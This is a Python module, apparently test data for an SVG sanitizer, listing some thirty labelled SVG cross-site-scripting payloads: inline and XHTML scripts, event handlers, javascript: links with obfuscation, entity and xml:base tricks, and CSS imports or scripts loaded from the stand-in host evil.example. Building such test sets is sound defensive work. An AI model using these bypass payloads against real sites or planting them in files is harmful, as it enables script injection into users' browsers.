"""Pictures that run a script once somebody opens them."""

OPEN = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:h="http://www.w3.org/1999/xhtml"'
)
RUN = "alert(1)"

RUNNING = {
    "script": f"{OPEN}><script>{RUN}</script></svg>",
    "script of XHTML": f"{OPEN}><h:script>{RUN}</h:script></svg>",
    "script in another place": f"{OPEN}><defs><g><script>{RUN}</script></g></defs></svg>",
    "script in character data": f"{OPEN}><script><![CDATA[{RUN}]]></script></svg>",
    "script from elsewhere": f'{OPEN}><script href="//evil.example/a.js"/></svg>',
    "handler at the root": f'{OPEN} onload="{RUN}"/>',
    "handler of an animation": f'{OPEN}><animateTransform onbegin="{RUN}" dur="1s"/></svg>',
    "handler with capitals": f'{OPEN} OnLoad="{RUN}"/>',
    "foreign object": f"{OPEN}><foreignObject><h:script>{RUN}</h:script></foreignObject></svg>",
    "frame": f'{OPEN}><h:iframe src="javascript:{RUN}"/></svg>',
    "image that fails": f'{OPEN}><h:img src="x" onerror="{RUN}"/></svg>',
    "refresh": f'{OPEN}><h:meta http-equiv="refresh" content="0;url=javascript:{RUN}"/></svg>',
    "link": f'{OPEN}><a href="javascript:{RUN}"><text y="20">a</text></a></svg>',
    "link with a tab": f'{OPEN}><a href=" java&#9;script:{RUN}"><text y="20">a</text></a></svg>',
    "link of another name": f'{OPEN}><a xlink:href="javascript:{RUN}"><text>a</text></a></svg>',
    "link that is set": f'{OPEN}><a><set attributeName="href" to="javascript:{RUN}"/></a></svg>',
    "link that moves": f'{OPEN}><a><animate attributeName="href" to="javascript:{RUN}"/></a></svg>',
    "base": f'{OPEN} xml:base="javascript:{RUN}//"><a href="#"><text>a</text></a></svg>',
    "use of another file": f'{OPEN}><use href="//evil.example/a.svg#x"/></svg>',
    "entity": f'<!DOCTYPE svg [<!ENTITY ran "{RUN}">]>{OPEN}><script>&ran;</script></svg>',
    "style sheet": f'<?xml-stylesheet type="text/xsl" href="//evil.example/a.xsl"?>{OPEN}/>',
    "import": f'{OPEN}><style>@import "//evil.example/a.css";</style></svg>',
    "import behind a comment": f'{OPEN}><style><!-- x -->@import "//evil.example/a";</style></svg>',
    "import behind an element": f'{OPEN}><style><b/>@import "//evil.example/a";</style></svg>',
    "import in escapes": f'{OPEN}><style>@\\69mport "//evil.example/a";</style></svg>',
    "address in escapes": f'{OPEN}><rect style="fill: u\\72l(//evil.example/a)"/></svg>',
    "font": f"{OPEN}><style>@font-face {{src: url(//evil.example/a)}}</style></svg>",
    "set of pictures": f"{OPEN} style=\"background-image: image-set('//evil.example/a' 1x)\"/>",
    "picture elsewhere": f'{OPEN}><rect style="fill: url(//evil.example/a.svg#b)"/></svg>',
}
